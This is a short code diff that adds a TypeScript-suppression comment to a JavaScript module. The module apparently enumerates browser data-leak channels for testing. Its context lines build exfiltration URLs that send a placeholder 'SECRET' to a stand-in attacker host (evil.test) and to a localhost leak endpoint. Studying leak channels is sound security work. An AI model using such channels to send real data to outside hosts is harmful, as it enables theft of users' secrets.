@@ -7,6 +7,7 @@
  * Each is given its own name r and asks for an address made of it: E(r) at a stranger's host named after the way,
  * O(r) at the own server. What a way cannot send but only keep for later, it says by "STORED".
  * SPDX-License-Identifier: MIT */
+// @ts-nocheck: many ways are so new, or so old, that TypeScript's DOM does not know them
 globalThis.WAYS = (() => {
   const E = (r, s = "https") => `${s}://${r}.evil.test/leak?d=SECRET`;
   const O = (r) => new URL(`leak-${r}?d=SECRET`, "http://localhost/").href;
